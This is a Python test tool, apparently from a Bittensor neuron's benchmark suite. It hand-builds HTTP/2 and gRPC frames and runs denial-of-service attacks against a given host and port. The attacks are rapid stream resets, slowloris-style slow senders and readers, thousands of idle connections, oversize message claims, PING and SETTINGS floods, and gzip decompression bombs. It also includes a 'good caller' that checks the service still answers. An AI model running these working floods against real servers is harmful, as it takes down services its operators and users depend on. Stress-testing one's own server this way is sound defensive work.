#!/usr/bin/env python3
"""Callers that mean ill: HTTP/2 and gRPC by hand, in Python's standard library, so that every rule can be broken.

    attacker.py HOST:PORT ATTACK [SCALE]

makes an attack until it is killed, and prints "ready" once it has begun. tests/bench/flood.py measures what a neuron makes
of it; test_flood.py runs small ones always."""
import gzip
import resource
import select
import socket
import struct
import sys
import time

from hostile import DATA, END_HEADERS, END_STREAM, FRAME, HEADERS, PING, PREFACE, RESET, SETTINGS, field, literal, varint

INITIAL_WINDOW, MAX_FRAME, WINDOW_UPDATE = 4, 5, 8
LIMIT = 64 << 20  # bytes of a message, as neurons have it by default


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(stream, flags=0, path="/Bittensor/Forward", more=b""):
    block = literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path)
    block += literal(":authority", "neuron") + literal("te", "trailers") + literal("content-type", "application/grpc")
    return frame(HEADERS, flags | END_HEADERS, stream, block + more)


def prefixed(message, size=None, compressed=0):
    """A gRPC message; `size`: what its prefix claims in place of the truth."""
    return struct.pack(">BI", compressed, len(message) if size is None else size) + message


def data(stream, content, end=False):
    parts = [content[at : at + FRAME] for at in range(0, len(content), FRAME)] or [b""]
    last = len(parts) - 1
    return b"".join(frame(DATA, END_STREAM if end and i == last else 0, stream, part) for i, part in enumerate(parts))


def images(rows, key=b"attacker"):
    """A Forward request of that many black MNIST images."""
    shape = varint(rows) + varint(1) * 2 + varint(28) * 2
    tensor = field(2, bytes(rows * 784 * 4)) + field(3, shape) + field(4, 1) + field(5, 1)
    return field(2, key) + field(6, tensor)


class Caller:
    """A connection that doesn't block: what can't be sent waits in `unsent`. Never reads unless `reads` is called."""

    def __init__(self, address, greets=True, settings=b"", receives=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receives:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receives)
        self.socket.settimeout(10)
        self.socket.connect((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.stream, self.unsent, self.closed = 1, memoryview(b""), False
        if greets:
            self.put(PREFACE + frame(SETTINGS, 0, 0, settings))

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def put(self, content):
        """Sends, or keeps. Only when nothing waits, or memory would be ours to lose."""
        self.unsent = memoryview(bytes(self.unsent) + content)
        self.flush()

    def flush(self):
        """Whether all has left."""
        try:
            while self.unsent and not self.closed:
                self.unsent = self.unsent[self.socket.send(self.unsent) :]
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        return not self.unsent

    def reads(self):
        """What the neuron has said since."""
        got = b""
        try:
            while not self.closed:
                part = self.socket.recv(1 << 16)
                self.closed = not part
                got += part
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        return got

    def close(self):
        self.closed = True
        self.socket.close()


def ready():
    print("ready", flush=True)


def refresh(callers, make):
    """Whoever was hung up on calls again."""
    for i, caller in enumerate(callers):
        if caller.closed:
            caller.close()
            try:
                callers[i] = make(i)
            except OSError:
                time.sleep(0.01)


def keep(make, count, step):
    """`count` callers, each of which `step`s whenever it can send; for ever."""
    callers = [make(i) for i in range(count)]
    ready()
    while True:
        refresh(callers, make)
        able = select.select([], [c.socket for c in callers if not c.closed], [], 0.05)[1]
        for caller in callers:
            if not caller.closed and caller.socket in able and caller.flush():
                step(caller)
        if not able:
            time.sleep(0.001)


# --- the attacks; `scale` is how many callers ---


def silent(address, scale):
    """Connections that say nothing, or greet and say nothing more, kept up."""
    make = lambda i: Caller(address, greets=i % 2 == 1)
    callers = [make(i) for i in range(scale)]
    ready()
    while True:
        time.sleep(0.2)
        for caller in callers:
            caller.reads()
        refresh(callers, make)


def resets(address, scale):
    """Calls that are taken back in the same breath, every second caller's with a message that can be answered."""
    message = prefixed(images(1))

    def step(caller):
        caller.reads()
        burst = b""
        for _ in range(100):
            stream = caller.next_stream()
            burst += headers(stream)
            if caller.full:
                burst += data(stream, message, end=True)
            burst += frame(RESET, 0, stream, struct.pack(">I", 8))
        caller.put(burst)

    def make(i):
        caller = Caller(address)
        caller.full = i % 2 == 1
        return caller

    keep(make, scale, step)


def slow_readers(address, scale):
    """Calls with big answers that nobody reads: of no stream, by HTTP/2's windows, or of the connection, by TCP's."""
    rows = 256
    message = prefixed(images(rows))
    closed_window = struct.pack(">HI", INITIAL_WINDOW, 0)
    open_window = struct.pack(">HI", INITIAL_WINDOW, 2**31 - 1)
    streams = 100

    def make(i):
        caller = Caller(address, settings=open_window if i % 2 else closed_window, receives=4096)
        if i % 2:
            caller.put(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30)))
        caller.asked = 0
        return caller

    def step(caller):
        if caller.asked < streams:
            caller.asked += 1
            stream = caller.next_stream()
            caller.put(headers(stream) + data(stream, message, end=True))

    keep(make, scale, step)


def slow_senders(address, scale):
    """Messages that come a byte at a time, and messages that stop half way."""
    message = prefixed(images(16))

    def make(i):
        caller = Caller(address)
        caller.half, caller.at = i % 2 == 1, 0
        streams = [caller.next_stream() for _ in range(50)]
        caller.put(b"".join(headers(stream) for stream in streams))
        caller.streams = streams
        if caller.half:
            caller.put(b"".join(data(stream, message[: len(message) // 2]) for stream in streams))
        return caller

    callers = [make(i) for i in range(scale)]
    ready()
    while True:
        for caller in callers:
            caller.reads()
            if not caller.half and not caller.closed and caller.flush():
                byte = message[caller.at : caller.at + 1]
                caller.put(b"".join(data(stream, byte) for stream in caller.streams))
                caller.at = (caller.at + 1) % len(message)
        refresh(callers, make)
        time.sleep(0.02)


def oversize(address, scale):
    """Messages beyond the limit by their prefix, and as big as it; as much as the windows let through."""

    def make(i):
        caller = Caller(address, settings=struct.pack(">HI", MAX_FRAME, 1 << 20))
        caller.claims = [LIMIT + 1, 2**32 - 1, LIMIT, LIMIT][i % 4]
        caller.sent = 0
        return caller

    chunk = bytes(FRAME)

    def step(caller):
        heard = caller.reads()
        if caller.sent == 0 or caller.sent >= caller.claims or frame(RESET, 0, caller.now)[3:4] in (heard[3:4],):
            caller.now, caller.sent = caller.next_stream(), 0
            caller.put(headers(caller.now) + frame(DATA, 0, caller.now, struct.pack(">BI", 0, caller.claims)))
        part = frame(DATA, 0, caller.now, chunk) * 8
        caller.sent += 8 * FRAME
        caller.put(part)

    keep(make, scale, step)


def frames(address, scale):
    """Frames that cost nothing and want an answer, which isn't read."""
    burst = frame(PING, 0, 0, b"flooding") * 500 + frame(SETTINGS, 0, 0) * 500
    keep(lambda i: Caller(address), scale, lambda caller: caller.put(burst))


def bombs(address, scale):
    """Messages that are small until they are unpacked: 60 MB of zeros and, if nobody stops it, 30 GB."""
    inner = gzip.compress(bytes(60 << 20), 9)
    encoding = literal("grpc-encoding", "gzip")

    def step(caller):
        caller.reads()
        stream = caller.next_stream()
        caller.put(headers(stream, more=encoding) + data(stream, prefixed(inner, compressed=1), end=True))

    keep(lambda i: Caller(address), scale, step)


# attack: (what does it, callers)
ATTACKS = {
    "silent": (silent, 10000),
    "resets": (resets, 8),
    "slow-readers": (slow_readers, 64),
    "slow-senders": (slow_senders, 100),
    "oversize": (oversize, 16),
    "frames": (frames, 8),
    "bombs": (bombs, 8),
}


# --- a good caller ---


def ask(caller, timeout=30, message=prefixed(images(1, b"good"))):
    """One Forward on a connection of its own, to the end: whether a tensor of 512 floats came back with status OK."""
    stream, got, until = caller.next_stream(), b"", time.monotonic() + timeout
    caller.put(headers(stream) + data(stream, message, end=True))
    while time.monotonic() < until and not caller.closed:
        select.select([caller.socket], [caller.socket] if caller.unsent else [], [], 1)
        caller.flush()
        got += caller.reads()
        answered, ended, at, said = 0, False, 0, b""
        while at + 9 <= len(got):
            size, kind, flags = int.from_bytes(got[at : at + 3], "big"), got[at + 3], got[at + 4]
            if at + 9 + size > len(got):
                break
            if int.from_bytes(got[at + 5 : at + 9], "big") == stream:
                answered += size if kind == DATA else 0
                said += got[at + 9 : at + 9 + size] if kind == HEADERS else b""
                ended = ended or kind == RESET or bool(flags & END_STREAM and kind in (HEADERS, DATA))
            at += 9 + size
        if ended:
            caller.put(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", max(1, answered))))
            return answered > 2048
    return False


if __name__ == "__main__":
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    attack, usual = ATTACKS[sys.argv[2]]
    attack(sys.argv[1], int(sys.argv[3]) if len(sys.argv) > 3 else usual)
